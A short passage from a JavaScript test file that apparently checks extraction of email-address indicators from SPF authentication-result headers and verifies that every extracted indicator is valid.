				authenticationResults: address.includes('"') ? [] : [`mx; spf=pass smtp.mailfrom=${address}`],
			}),
		).filter(({ type }) => type === 'email-addr');
		expect(found.map((one) => one.value)).toEqual([value]);
		expect(found.every(isValidIndicator)).toBe(true);
	});
});
